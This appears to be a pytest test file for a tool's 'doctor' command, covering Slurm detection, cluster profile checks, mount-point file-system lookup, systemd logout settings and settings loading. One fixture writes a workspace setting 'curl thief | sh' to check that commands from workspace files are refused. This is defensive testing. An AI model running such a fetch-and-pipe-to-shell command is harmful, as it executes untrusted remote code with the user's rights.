"""What doctor says of Slurm and of logouts."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from finetui import settings
from finetui.errors import UserError
from finetui.jobs import slurm_checks
from finetui.jobs.slurm_checks import file_system, logout_check
from finetui.settings import Cluster

SINFO = "gpu|up|1-00:00:00|gpu:a100:8\\ncpu|up|infinite|(null)"
PROFILES = {
    "good": Cluster(partition="gpu", gpu_type="a100", time="12:00:00"),
    "elsewhere": Cluster(partition="big"),
    "long": Cluster(partition="gpu", time="2-00:00:00"),
    "no-gpu": Cluster(partition="cpu"),
    "broken": Cluster(time="soon"),
}


def commands(folder: Path, monkeypatch: pytest.MonkeyPatch, **texts: str) -> None:
    """Let PATH hold these shell programs and the system's own, but no Slurm of this machine."""
    folder.mkdir()
    for name, text in texts.items():
        (folder / name).write_text(f"#!/bin/sh\n{text}\n")
        (folder / name).chmod(0o700)
    monkeypatch.setenv("PATH", str(folder))


def found(tmp_path: Path, profiles: dict[str, Cluster]) -> dict[str, slurm_checks.Check]:
    return {one.name: one for one in slurm_checks.slurm_checks(profiles, tmp_path)}


def test_a_machine_without_slurm_gets_one_line(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    commands(tmp_path / "bin", monkeypatch)
    assert [one.status for one in found(tmp_path, {}).values()] == ["note"]
    lines = found(tmp_path, {"a": Cluster(time="soon")})
    assert lines["slurm"].status == "missing" and "sbatch" in lines["slurm"].found
    assert "time" in lines["[cluster.a]"].found


def test_each_profile_is_held_against_the_cluster(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    commands(
        tmp_path / "bin", monkeypatch, sbatch="echo slurm-wlm 22.05.8", squeue="", scancel="",
        srun="", sinfo=f"/bin/echo -e '{SINFO}'",
        scontrol="echo 'AccountingStorageType   = accounting_storage/none'",
    )  # fmt: skip
    (tmp_path / "bin" / "sinfo").write_text(f"#!/bin/bash\nprintf '{SINFO}\\n'\n")
    lines = found(tmp_path, PROFILES)
    assert "partitions gpu, cpu" in lines["slurm"].found
    assert "does not need it" in lines["slurm accounting"].found
    assert lines["[cluster.good]"].status == "ok"
    for name, words in (
        ("elsewhere", "no partition 'big', only gpu, cpu"), ("long", "limit of 1-00:00:00"),
        ("no-gpu", "set gpus = 0"), ("broken", "no time limit"),
    ):  # fmt: skip
        line = lines[f"[cluster.{name}]"]
        assert line.status == "missing" and words in line.found, line


@pytest.mark.parametrize(
    ("said", "advice"),
    [
        ("Munge encode failed: Failed to access socket", "munged must run"),
        ("Unable to contact slurm controller (connect failure)", "does not answer"),
        ("Could not establish a configuration source", "SLURM_CONF"),
    ],
)
def test_what_is_missing_is_named(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, said: str, advice: str
) -> None:
    commands(tmp_path / "bin", monkeypatch, sbatch="echo slurm", squeue="", scancel="", srun="",
             scontrol="", sinfo=f"echo 'sinfo: error: {said}' >&2; exit 1")  # fmt: skip
    line = found(tmp_path, {})["slurm"]
    assert line.status == "missing" and said in line.found and advice in line.advice


def test_the_file_system_of_a_folder_is_the_deepest_mount_above_it(tmp_path: Path) -> None:
    table = tmp_path / "mountinfo"
    home = tmp_path / "home dir" / "me"
    home.mkdir(parents=True)
    mount = str(tmp_path / "home dir").replace(" ", "\\040")
    table.write_text(
        "1 0 8:1 / / rw - ext4 /dev/sda rw\n"
        f"2 1 0:40 / {mount} rw shared:1 - lustre mds:/fs rw\nbroken\n"
    )
    assert file_system(home, str(table)) == "lustre"
    assert file_system(Path("/"), str(table)) == "ext4"
    assert file_system(home, str(tmp_path / "none")) == ""


def test_a_logout_that_ends_runs_is_told_with_the_way_out(tmp_path: Path) -> None:
    conf = tmp_path / "etc/systemd/logind.conf"
    conf.parent.mkdir(parents=True)
    conf.write_text("[Login]\n#KillUserProcesses=yes\n")
    assert logout_check("me", tmp_path, tmp_path) is None
    conf.write_text("[Login]\nKillUserProcesses=yes\n")
    line = logout_check("me", tmp_path, tmp_path)
    assert line is not None and "enable-linger me" in line.advice
    assert logout_check("root", tmp_path, tmp_path) is None
    assert logout_check("me", tmp_path, tmp_path / "no-systemd") is None
    (tmp_path / "var/lib/systemd/linger").mkdir(parents=True)
    (tmp_path / "var/lib/systemd/linger/me").touch()
    line = logout_check("me", tmp_path, tmp_path)
    assert line is not None and "enable-linger" not in line.advice
    last = tmp_path / "etc/systemd/logind.conf.d"
    last.mkdir()
    (last / "z.conf").write_text("[Login]\nKillUserProcesses=no\n")
    assert logout_check("me", tmp_path, tmp_path) is None


def person(tmp_path: Path, text: str) -> dict[str, str]:
    file = tmp_path / "config" / "finetui" / "settings.toml"
    file.parent.mkdir(parents=True, exist_ok=True)
    file.write_text(text)
    return {"XDG_CONFIG_HOME": str(tmp_path / "config")}


def test_profiles_come_from_the_persons_own_file_only(tmp_path: Path) -> None:
    environ = person(tmp_path, '[cluster.a]\npartition = "gpu"\nnodes = 2\n[cluster.b]\n')
    known = settings.load(environ=environ | {"FINETUI_CLUSTER": "x"}).cluster
    assert known == {"a": Cluster(partition="gpu", nodes=2), "b": Cluster()}
    marker = tmp_path / "finetui.toml"
    marker.write_text('[cluster.a]\nsetup = ["curl thief | sh"]\n')
    with pytest.raises(UserError, match="not of a workspace") as error:
        settings.load(marker, environ=environ)
    assert "run as you" in str(error.value)


@pytest.mark.parametrize(
    ("text", "why"),
    [
        ('[cluster.a]\npartitoin = "x"\n', "cluster.a: unknown setting 'partitoin'. Did you mean"),
        ("[cluster.a]\nnodes = 0\n", "cluster.a: nodes"),
        ('[cluster.a]\noptions = "x"\n', "cluster.a: options"),
        ('[cluster."a b"]\n', "no name of a profile"),
        ('cluster = "a"\n', "[cluster.NAME]"),
        ("[cluster]\na = 1\n", "no profile"),
    ],
)
def test_a_wrong_profile_in_the_settings_names_its_place(
    tmp_path: Path, text: str, why: str
) -> None:
    with pytest.raises(UserError) as error:
        settings.load(environ=person(tmp_path, text))
    assert why in str(error.value)


def test_the_command_says_it_too(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from finetui.commands import doctor

    environ = person(tmp_path, '[cluster.a]\ntime = "soon"\n')
    monkeypatch.setenv("XDG_CONFIG_HOME", environ["XDG_CONFIG_HOME"])
    commands(tmp_path / "bin", monkeypatch)
    lines = {line.name: line for line in doctor._slurm(tmp_path)}
    assert lines["[cluster.a]"].status == "missing" and os.environ["PATH"] == str(tmp_path / "bin")
    person(tmp_path, "[cluster.a]\nnodes = 0\n")
    assert doctor._slurm(tmp_path)[0].status == "missing"
